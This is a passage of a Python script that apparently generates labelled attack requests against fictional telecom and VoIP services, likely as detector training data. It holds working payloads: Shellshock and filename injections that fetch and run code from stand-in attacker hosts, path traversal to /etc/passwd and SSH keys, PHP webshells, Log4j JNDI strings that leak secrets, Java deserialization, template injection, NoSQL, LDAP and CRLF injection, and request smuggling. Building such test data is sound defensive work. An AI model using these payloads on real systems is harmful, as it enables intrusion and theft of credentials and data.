        hdrs = o.browser(H_NOC, ctype=ct, cookie=o.session()) if ct != JSONCT else o.api(H_VM, ctype=ct)
        if slug == "rce-rec-filename":
            ct2, body = o.multipart([("mailbox", None, None, "1001"), ("greeting", "hello.wav;curl attacker.example|sh;.wav", "audio/wav", "RIFF....WAVEfmt placeholder")])
            hdrs = o.browser(H_VM, ctype=ct2, cookie=o.session())
        if slug == "rce-shellshock-ua":
            hdrs = [["Host", H_NOC], ["User-Agent", "() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.23/bot.sh | sh'"], ["Accept", "*/*"]]
        if slug == "rce-shellshock-hdr":
            hdrs = [["Host", H_GW], ["User-Agent", "curl/7.68.0"], ["Accept", "*/*"], ["Referer", "() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd"]]
        if slug == "rce-provision-mac":
            hdrs = [["Host", H_SIP], ["User-Agent", "Yealink SIP-T46U 108.86.0.90"], ["Accept", "*/*"]]
        o.add(slug, "rce", m, path, hdrs, body)


LFI = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//etc/asterisk/sip.conf",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/etc/asterisk/manager.conf",
    "../../../../../proc/self/environ",
    "../../../../etc/passwd%00.wav",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/var/spool/asterisk/voicemail/default/1001/../../../../../../etc/amportal.conf",
    "../../../../var/lib/asterisk/astdb.sqlite3",
    "../../../../root/.ssh/id_rsa",
    "..%2F..%2F..%2F..%2Fetc%2Fkamailio%2Fkamailio.cfg",
    "/proc/self/cmdline",
    "../../../../../../../../../../../../etc/hosts",
    "file:///etc/passwd",
    "C:\\inetpub\\wwwroot\\web.config",
    "..;/..;/..;/WEB-INF/web.xml",
    ".../.../.../.../etc/passwd",
]


def attacks_lfi(o):
    r = o.rng
    for i, p in enumerate(LFI):
        pre_encoded = "%" in p
        v = p if pre_encoded else quote(p, safe="/")
        mode = i % 5
        if ";/" in p:
            uri = "/recordings/" + p
        elif mode == 0:
            uri = "/voicemail/download?box=1001&folder=INBOX&msg=" + v
        elif mode == 1:
            uri = "/recordings/download?file=" + v
        elif mode == 2:
            uri = "/vm/play?mailbox=2001%40default&format=wav&id=" + v
        elif mode == 3:
            uri = "/recordings/" + (p if pre_encoded else quote(p, safe="/\\:;"))
        else:
            uri = "/prov/config?" + "file=" + v
        o.add("lfi-recording", "lfi", "GET", uri, o.browser(H_VM if mode < 4 else H_SIP, accept="audio/*,*/*;q=0.5", cookie=o.session()))
    o.add("lfi-json", "lfi", "POST", "/api/recordings/export", o.api(H_VM, ctype=JSONCT), jdump({"files": ["RE0001.wav", "../../../../etc/passwd"], "zip": True}))
    o.add("lfi-form", "lfi", "POST", "/admin/backup/restore", o.browser("pbx.example.com", ctype=FORM, cookie=o.session()), urlencode([("path", "../../../../etc/asterisk/extensions.conf"), ("dry_run", "1")]))
    o.add("lfi-template-lang", "lfi", "GET", "/portal/index.php?lang=" + quote("../../../../../etc/passwd", safe="/"), o.browser(H_CARE))
    o.add("lfi-cookie", "lfi", "GET", "/portal/", o.browser(H_CARE, cookie="lang=..%2F..%2F..%2F..%2Fetc%2Fpasswd; sc_session=" + o.hexid(48)))


def attacks_rfi(o):
    rfis = [
        ("/portal/index.php?lang=", "http://198.51.100.23/shell.txt?"),
        ("/freepbx/admin/config.php?display=", "http://attacker.example/r57.txt??"),
        ("/ivr/render.php?template=", "https://attacker.example/evil.txt%00"),
        ("/a2billing/customer/index.php?page=", "ftp://198.51.100.23/pub/inc.txt"),
        ("/recordings/index.php?theme=", "http://198.51.100.23:8080/c99.php?"),
        ("/vicidial/admin.php?include=", "//198.51.100.23/share/x.php"),
        ("/sms/gateway.php?module=", "http://attacker.example/mod.txt?&cmd=id"),
        ("/voicemail/index.php?skin=", "https://198.51.100.23/skin.txt#"),
    ]
    for i, (path, u) in enumerate(rfis):
        enc = u if "%" in u else (quote(u, safe=":/?&=#") if i % 2 else quote(u, safe=""))
        o.add("rfi-include", "rfi", "GET", path + enc, o.browser(H_CARE if i % 2 else "pbx.example.com"))
    o.add("rfi-form", "rfi", "POST", "/portal/template/preview", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()),
          urlencode([("tpl", "http://198.51.100.23/t.txt?"), ("vars", "x")]))
    o.add("rfi-json", "rfi", "POST", "/api/ivr/modules/load", o.api(H_VOICE, ctype=JSONCT), jdump({"module_path": "http://attacker.example/ivr_module.php?", "reload": True}))


def attacks_php(o):
    r = o.rng
    items = [
        ("php-filter", "GET", "/portal/index.php?lang=" + quote("php://filter/convert.base64-encode/resource=../config/db.php", safe="/:"), None, None),
        ("php-filter", "GET", "/recordings/download?file=" + quote("php://filter/read=string.rot13/resource=index.php", safe=""), None, None),
        ("php-data-wrapper", "GET", "/portal/index.php?page=" + quote("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", safe="/:;,"), None, None),
        ("php-expect", "GET", "/vm/play?id=" + quote("expect://id", safe=""), None, None),
        ("php-input", "POST", "/portal/index.php?lang=php://input", "text/plain", "<?php system('cat /etc/asterisk/manager.conf'); ?>"),
        ("php-cgi-args", "POST", "/cgi-bin/php-cgi?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", FORM, "<?php echo shell_exec('id'); ?>"),
        ("php-cgi-args", "GET", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", None, None),
        ("php-phar", "GET", "/recordings/download?file=" + quote("phar:///var/www/uploads/cdr_2024.csv/x.php", safe="/:"), None, None),
        ("php-object-cookie", "GET", "/portal/account", None, None),
        ("php-object-form", "POST", "/account/preferences", FORM, urlencode([("prefs", 'O:8:"Settings":2:{s:4:"file";s:27:"/var/www/html/shell.php";s:4:"data";s:30:"<?php system($_REQUEST[0]); ?>";}')])),
        ("php-webshell-upload", "POST", "/cdr/import", "multipart", None),
        ("php-webshell-upload", "POST", "/voicemail/greeting", "multipart", None),
        ("php-eval-param", "POST", "/sms/gateway.php", FORM, urlencode([("action", "send"), ("callback", "assert"), ("arg", "system('id')")])),
        ("php-eval-param", "GET", "/index.php?" + qs([("s", "/Index/\\think\\app/invokefunction"), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")]), None, None),
        ("php-create-function", "POST", "/api/ivr/hooks", JSONCT, jdump({"hook": "${@eval($_POST[cmd])}", "cmd": "passthru('uname -a');"})),
    ]
    for slug, m, path, ct, body in items:
        if ct == "multipart":
            fn = "cdr_june.php" if "cdr" in path else "greeting.php5"
            ct2, body = o.multipart([("carrier", None, None, "ACME-TEL"), ("file", fn, "application/x-php" if "cdr" in path else "audio/wav",
                                                                                   "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; } ?>")])
            hdrs = o.browser(H_BILL if "cdr" in path else H_VM, ctype=ct2, cookie=o.session())
        elif slug == "php-object-cookie":
            cookie = "sc_session=%s; prefs=%s" % (o.hexid(48), quote(base64.b64encode(b'O:19:"Monolog\\Handler\\Buffer":1:{s:9:"\x00*\x00handler";O:29:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";s:2:"id";}}').decode(), safe=""))
            hdrs = o.browser(H_CARE, cookie=cookie)
        else:
            hdrs = o.browser(H_CARE, ctype=ct, cookie=o.session())
        o.add(slug, "php", m, path, hdrs, body)


LOG4J = [
    "${jndi:ldap://198.51.100.23:1389/Exploit}",
    "${jndi:ldap://attacker.example/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/obj}",
    "${jndi:dns://attacker.example/sip-ua}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.51.100.23/a}",
    "${jndi:rmi://198.51.100.23:1099/jndi}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/c}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}",
    "${${upper:j}ndi:ldaps://attacker.example:636/a}",
    "${jnd${123%25ff:-i}:ldap://198.51.100.23/x}",
]


def attacks_java(o):
    r = o.rng
    for i, p in enumerate(LOG4J):
        mode = i % 6
        if mode == 0:
            o.add("java-log4j-sip-ua", "java", "POST", "/events/sip", o.api(H_SIP, ctype=JSONCT, ua=p),
                  jdump({"event": "call.initiated", "sip": {"from": "<sip:+15550100@example.com>", "user_agent": "Asterisk PBX 18"}}))
        elif mode == 1:
            o.add("java-log4j-callername", "java", "POST", "/voice/answer", o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1"),
                  urlencode([("CallSid", o.sid("CA")), ("From", o.msisdn()), ("CallerName", p), ("CallStatus", "ringing")]))
        elif mode == 2:
            o.add("java-log4j-sipheader", "java", "POST", "/api/v2/sip/trunks", o.api(H_SIP, ctype=JSONCT, extra=[["P-Asserted-Identity", '"%s" <sip:+15550100@example.com>' % p], ["X-SIP-From", p]]),
                  jdump({"name": "trunk-x", "uri": "sip:+15550100@sip.example.com;user=phone"}))
        elif mode == 3:
            o.add("java-log4j-query", "java", "GET", "/v2/PhoneNumbers/%2B15550100?Fields=" + quote(p, safe=""), o.api(H_LOOKUP))
        elif mode == 4:
            o.add("java-log4j-sms-text", "java", "POST", "/v1/sms/messages", o.api(H_SMS, ctype=JSONCT), jdump({"to": [o.msisdn()], "text": p, "from": "ACME"}))
        else:
            o.add("java-log4j-headers", "java", "GET", "/", [["Host", H_CARE], ["User-Agent", UA_BROWSER[0]], ["Accept", "*/*"], ["X-Api-Version", p], ["X-Forwarded-For", p], ["Referer", p]])
    # Spring4Shell, OGNL/Struts, deserialization, SpEL, JNDI via other carriers
    o.add("java-spring4shell", "java", "POST", "/account/plan/change", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()),
          "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    o.add("java-spring4shell", "java", "GET", "/usage?class.module.classLoader.URLs%5B0%5D=0", o.browser(H_CARE, cookie=o.care_cookie()))
    o.add("java-struts-ognl-ct", "java", "POST", "/billing/upload.action",
          [["Host", H_BILL], ["User-Agent", UA_API[4]], ["Accept", "*/*"],
           ["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}"]], "")
    o.add("java-struts-ognl-param", "java", "GET", "/selfcare/login.action?redirect:" + quote("${#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}", safe=""), o.browser(H_CARE))
    o.add("java-struts-ognl-param", "java", "GET", "/noc/" + quote("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}", safe="") + "/index.action", o.browser(H_NOC))
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x32sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xpsr\x00\x31org.apache.commons.collections.map.LazyMap").decode()
    o.add("java-deser-cookie", "java", "GET", "/selfcare/home", o.browser(H_CARE, cookie="JSESSIONID=%s; rememberMe=%s" % (o.hexid(32).upper(), ser)))
    o.add("java-deser-body", "java", "POST", "/invoker/JMXInvokerServlet", [["Host", H_BILL], ["User-Agent", UA_API[7]], ["Accept", "*/*"], ["Content-Type", "application/x-java-serialized-object"]],
          "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashSet\u00baD\u0085\u0095\u0096\u00b8\u00b74\u0003\u0000\u0000xpw\u000c\u0000\u0000\u0000\u0002?@\u0000\u0000\u0000\u0000\u0000\u0001sr\u0000\u0034org.apache.commons.collections.keyvalue.TiedMapEntry")
    o.add("java-spel", "java", "GET", "/cdr/search?" + qs([("sort", "T(java.lang.Runtime).getRuntime().exec('curl http://198.51.100.23/x')"), ("page", "1")]), o.browser(H_BILL, cookie=o.session()))
    o.add("java-spel-header", "java", "POST", "/functionRouter", [["Host", H_RCS], ["User-Agent", UA_API[0]], ["Accept", "*/*"], ["Content-Type", "text/plain"],
                                                                 ["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]], "x")
    o.add("java-jackson-gadget", "java", "POST", "/api/sim/swap", o.api(H_CARE, ctype=JSONCT),
          jdump({"msisdn": "+447700900123", "profile": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://198.51.100.23:1389/Obj", "autoCommit": True}]}))
    o.add("java-fastjson", "java", "POST", "/api/ussd/session", o.api(H_USSD, ctype=JSONCT),
          '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.23:1099/Exploit","autoCommit":true}')
    o.add("java-xstream", "java", "POST", "/parlayx/SendSmsService", o.api(H_SMS, ctype="application/xml"),
          '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>')


SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ lipsum.__globals__['__builtins__']['__import__']('os').popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['eval'](\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "{php}echo `id`;{/php}",
    "{system('cat /etc/passwd')}",
    "${self.module.cache.util.os.system(\"id\")}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "#{7*7}${{7*7}}{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
]


def attacks_ssti(o):
    r = o.rng
    for i, p in enumerate(SSTI):
        mode = i % 4
        if mode == 0:
            o.add("ssti-template-save", "ssti", "POST", "/api/templates", o.api(H_SMS, ctype=JSONCT),
                  jdump({"name": "tmpl_promo", "language": "en_GB", "category": "MARKETING", "body": "Hi {{first_name}}! " + p}))
        elif mode == 1:
            o.add("ssti-template-send", "ssti", "POST", "/api/templates/send", o.api(H_SMS, ctype=FORM),
                  urlencode([("template_id", "tmpl_12"), ("to", o.msisdn()), ("vars[first_name]", p)]))
        elif mode == 2:
            o.add("ssti-preview-get", "ssti", "GET", "/templates/preview?" + qs([("body", p), ("lang", "en")], plus=(i % 3 == 0)), o.browser(H_SMS, cookie=o.session()))
        else:
            o.add("ssti-twiml-say", "ssti", "POST", "/v1/calls", o.api(H_VOICE, ctype=JSONCT),
                  jdump({"to": "+15550142", "from": "+15550100", "ncco": [{"action": "talk", "text": p}]}))


NOSQL = [
    ("/api/login", {"msisdn": {"$ne": None}, "pin": {"$ne": ""}}),
    ("/api/login", {"msisdn": "+447700900123", "pin": {"$gt": ""}}),
    ("/api/login", {"msisdn": {"$regex": "^\\+44"}, "pin": {"$exists": True}}),
    ("/api/sim/swap", {"msisdn": "+447700900123", "otp": {"$nin": ["000000"]}, "new_iccid": "8944100000000000001"}),
    ("/api/lookup/subscribers", {"$where": "sleep(5000) || true"}),
    ("/api/lookup/subscribers", {"msisdn": {"$where": "this.pin.length > 0"}}),
    ("/api/messages/search", {"filter": {"$or": [{"owner": "me"}, {"owner": {"$ne": "me"}}]}}),
    ("/api/messages/search", {"filter": {"text": {"$regex": ".*", "$options": "si"}, "$expr": {"$function": {"body": "function(){return sleep(3000)}", "args": [], "lang": "js"}}}}),
    ("/api/cdr/aggregate", {"pipeline": [{"$lookup": {"from": "operators", "localField": "x", "foreignField": "x", "as": "ops"}}, {"$project": {"ops.password": 1}}]}),
]


def attacks_nosqli(o):
    r = o.rng
    for path, body in NOSQL:
        host = H_CARE if "login" in path or "sim" in path else (H_SMS if "messages" in path else H_LOOKUP if "lookup" in path else H_BILL)
        o.add("nosqli-json", "nosqli", "POST", path, o.api(host, ctype=JSONCT, auth="login" not in path), jdump(body))
    qsv = [
        ("/login", [("msisdn[$ne]", "x"), ("pin[$ne]", "x")], True),
        ("/usage", [("line[$regex]", ".*"), ("month", "2024-06")], False),
        ("/cnam", [("number[$gt]", ""), ("country", "US")], False),
        ("/inbox/search", [("owner[$ne]", "me"), ("q", "code")], False),
        ("/login", [("msisdn", "+447700900123"), ("pin[$regex]", "^1")], True),
        ("/voicemail/download", [("box[$exists]", "true"), ("msg", "msg0001.wav")], False),
    ]
    for path, pairs, post in qsv:
        if post:
            o.add("nosqli-form", "nosqli", "POST", path, o.browser(H_CARE, ctype=FORM), urlencode(pairs))
        else:
            o.add("nosqli-query", "nosqli", "GET", path + "?" + "&".join(quote(k, safe="") + "=" + quote(v, safe="") if i % 2 else k + "=" + quote(v, safe="") for i, (k, v) in enumerate(pairs)),
                  o.browser(H_CARE, cookie=o.care_cookie()))
    o.add("nosqli-where-string", "nosqli", "GET", "/api/lookup/subscribers?" + qs([("msisdn", "'; return true; var x='"), ("fields", "imsi")]), o.api(H_LOOKUP))
    o.add("nosqli-where-string", "nosqli", "GET", "/api/lookup/subscribers?" + qs([("msisdn", "' || '1'=='1"), ("fields", "imsi")]), o.api(H_LOOKUP))


LDAP = [
    "*)(uid=*))(|(uid=*",
    "*)(|(objectClass=*)",
    "admin)(&(userPassword=*)",
    "*)(telephoneNumber=*))(|(cn=*",
    "Smith)(|(userPassword=*)(sipSecret=*)",
    "*))%00",
    "*)(mail=*@*)(|(cn=*",
    "x*)(|(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com)",
    "*)(&(objectCategory=person)(pwdLastSet=0)",
    "Okoye)(!(cn=a",
    "*)(homePhone=*))(&(cn=*",
    "*()|&'",
]


def attacks_ldapi(o):
    r = o.rng
    for i, p in enumerate(LDAP):
        mode = i % 4
        v = p if "%00" in p else quote(p, safe="") if i % 2 else quote_plus(p, safe="")
        if mode == 0:
            o.add("ldapi-phonebook", "ldapi", "GET", "/phonebook/search?q=%s&field=name&limit=25" % v, o.browser(H_DIR, accept=ACCEPT_JSON, cookie=o.session()))
        elif mode == 1:
            o.add("ldapi-phone-xml", "ldapi", "GET", "/xmldirectory?name=%s&start=1" % v, [["Host", H_DIR], ["User-Agent", r.choice(UA_PHONE)], ["Accept", "text/xml"]])
        elif mode == 2:
            o.add("ldapi-login", "ldapi", "POST", "/pbx/login", o.browser("pbx.example.com", ctype=FORM), urlencode([("username", p), ("password", "anything")]))
        else:
            o.add("ldapi-json", "ldapi", "POST", "/api/directory/lookup", o.api(H_DIR, ctype=JSONCT), jdump({"attribute": "telephoneNumber", "value": p}))


CRLF = [
    ("/portal/redirect?next=", "/account%0d%0aSet-Cookie:%20sc_session=attacker_fixed;%20Domain=.carrier.example.com"),
    ("/sso/callback?return_to=", "https://my.carrier.example.com/%0D%0ALocation:%20https://attacker.example/phish"),
    ("/voicemail/download?msg=", "msg0001.wav%0d%0aContent-Disposition:%20inline%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("/lang?set=", "en%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a%3Chtml%3Einjected"),
    ("/go?u=", "/%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injected"),
    ("/portal/redirect?next=", "%0aHTTP/1.1%20200%20OK%0aContent-Type:%20text/html%0a%0a%3Cscript%3Ealert(document.domain)%3C/script%3E"),
    ("/ussd/help/", "%0d%0aSet-Cookie:%20admin=1"),
]


def attacks_crlf(o):
    r = o.rng
    for path, v in CRLF:
        o.add("crlf-redirect", "crlf", "GET", path + v, o.browser(H_CARE if "ussd" not in path else H_USSD, cookie=o.care_cookie()))
    # SIP header injection through APIs that build SIP messages
    sip = [
        ("/v1/calls", {"to": "sip:+15550142@example.com", "from": "+15550100", "sip_headers": {"X-Account": "ACC-1\r\nP-Asserted-Identity: <sip:+18005550199@example.com;user=phone>"}}),
        ("/v1/calls", {"to": "sip:+15550142@example.com\r\nRoute: <sip:198.51.100.23;lr>", "from": "+15550100"}),
        ("/api/v2/sip/trunks", {"name": "trunk-x", "p_asserted_identity": "\"Support\" <sip:+15550100@example.com>\r\nPrivacy: none\r\nP-Charging-Vector: icid-value=1"}),
        ("/api/v2/sip/refer", {"call_id": "a84b4c76e66710@203.0.113.9", "refer_to": "<sip:+15550142@example.com>\r\n\r\nINVITE sip:+900123456@198.51.100.23 SIP/2.0"}),
    ]
    for path, body in sip:
        o.add("crlf-sip-header-json", "crlf", "POST", path, o.api(H_SIP if "sip" in path else H_VOICE, ctype=JSONCT), jdump(body))
    o.add("crlf-sip-header-form", "crlf", "POST", "/admin/extensions/save", o.browser("pbx.example.com", ctype=FORM, cookie=o.session()),
          urlencode([("extension", "104"), ("callerid", "\"Bob\" <104>\r\nP-Asserted-Identity: <sip:911@pbx.example.com>"), ("sip_uri", "sip:104@pbx.example.com")]))
    o.add("crlf-sms-sender", "crlf", "GET", "/cgi-bin/sendsms?username=tester&password=x&to=%2B15550142&from=ACME%0d%0aX-Kannel-SMSC:%20premium&text=hi", o.api(H_GW, accept=ACCEPT_ANY, auth=False))
    o.add("crlf-webhook-header", "crlf", "PUT", "/api/numbers/%2B15550100/webhooks", o.api(H_SMS, ctype=JSONCT),
          jdump({"sms_url": "https://app.example.com/hook", "headers": {"X-Tenant": "acme\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"}}))
    o.add("crlf-email-notify", "crlf", "POST", "/voicemail/notify", o.browser(H_VM, ctype=FORM, cookie=o.session()),
          urlencode([("email", "user@example.com\r\nBcc: victims@example.org"), ("subject", "New voicemail")]))


def attacks_protocol(o):
    r = o.rng
    ua = UA_API[3]
    items = [
        ("protocol-te-cl-dup", "POST", "/sms/inbound", [["Host", "app.example.com"], ["User-Agent", ua], ["Content-Type", FORM], ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]],
         "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: app.example.com\r\n\r\n"),
        ("protocol-te-obfuscated", "POST", "/hooks/dlr", [["Host", "app.example.com"], ["User-Agent", ua], ["Content-Type", FORM], ["Transfer-Encoding", "xchunked"]],
         "msgid=1&status=1"),
        ("protocol-te-obfuscated", "POST", "/v1/sms/messages", [["Host", H_SMS], ["User-Agent", ua], ["Content-Type", JSONCT], ["Transfer-Encoding", " chunked"], ["Transfer-Encoding", "chunked\u000b"]],
         "{\"to\":[\"+15550142\"]}"),
        ("protocol-smuggled-body", "POST", "/voice/status", [["Host", "app.example.com"], ["User-Agent", ua], ["Content-Type", FORM], ["Transfer-Encoding", "chunked"]],
         "1\r\nZ\r\n0\r\n\r\nPOST /internal/flush-queue HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nx=1"),
        ("protocol-range-dos", "GET", "/recordings/RE0001.wav", [["Host", H_VM], ["User-Agent", ua], ["Accept", "*/*"], ["Range", "bytes=0-," + ",".join("5-%d" % k for k in range(0, 120))], ["Request-Range", "bytes=0-,5-0,5-1,5-2"]], None),
        ("protocol-dup-host", "GET", "/admin/", [["Host", H_NOC], ["Host", "localhost"], ["User-Agent", ua], ["Accept", "*/*"]], None),
        ("protocol-host-injection", "GET", "/portal/reset-pin", [["Host", "my.carrier.example.com@198.51.100.23"], ["User-Agent", ua], ["Accept", "*/*"]], None),
        ("protocol-header-nul", "GET", "/usage", [["Host", H_CARE], ["User-Agent", ua], ["Accept", "*/*"], ["X-Msisdn", "+447700900123\u0000admin"]], None),
        ("protocol-method-override", "POST", "/api/lines/%2B447700900123", [["Host", H_CARE], ["User-Agent", ua], ["Accept", "*/*"], ["X-HTTP-Method-Override", "TRACE"], ["Content-Type", FORM]], "x=1"),
        ("protocol-h2c-smuggle", "GET", "/rtc/", [["Host", H_RTC], ["User-Agent", ua], ["Accept", "*/*"], ["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"], ["Connection", "Upgrade, HTTP2-Settings"]], None),
        ("protocol-bad-range-overflow", "GET", "/recordings/RE0002.wav", [["Host", H_VM], ["User-Agent", ua], ["Accept", "*/*"], ["Range", "bytes=18-18446744073709551615"]], None),
    ]
    for slug, m, path, hdrs, body in items:
        o.add(slug, "protocol", m, path, hdrs, body)


def attacks_scanner(o):
    r = o.rng
    scans = [
        ("/admin/config.php", "Mozilla/5.0 zgrab/0.x"),
        ("/recordings/index.php", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:002310)"),
        ("/.env", UA_TOOLS["nuclei"]),
        ("/.git/config", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("/vicidial/admin.php", "friendly-scanner"),
        ("/a2billing/admin/Public/index.php", "sipvicious"),
        ("/cgi-bin/sendsms?username=admin&password=admin&to=0&text=test", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        ("/server-status", "Mozilla/5.0 (compatible; Nuclei/3.1)"),
        ("/actuator/env", "Mozilla/5.0 Jorgee"),
        ("/phpmyadmin/index.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) WPScan"),
        ("/ari/api-docs/resources.json", "python-requests/2.25.1 (asterisk-scan)"),
        ("/goform/formping", "Mozilla/5.0 (Hello, World)"),
        ("/HNAP1/", "Mozilla/5.0 (compatible; Zgrab/0.x)"),
        ("/cgi-bin/config.exp", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("/provisioning/cisco/SEP000000000000.cnf.xml", "Fuzz Faster U Fool v2.1.0-dev"),
        ("/backup.sql", "gobuster/3.6"),
        ("/admin/cdr.php.bak", "dirbuster-ng/1.0"),
        ("/?x=sqlmap", UA_TOOLS["sqlmap"]),
    ]
    for path, ua in scans:
        o.add("scanner-probe", "scanner", "GET", path, [["Host", r.choice([H_VOICE, "pbx.example.com", H_NOC, H_GW])], ["User-Agent", ua], ["Accept", "*/*"], ["Connection", "close"]])
    o.add("scanner-acunetix", "scanner", "GET", "/portal/index.php?lang=en", [["Host", H_CARE], ["User-Agent", UA_BROWSER[0]], ["Accept", "*/*"], ["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"], ["Acunetix-User-Agreement", "http://www.acunetix.com/wvs/disc.htm"]])
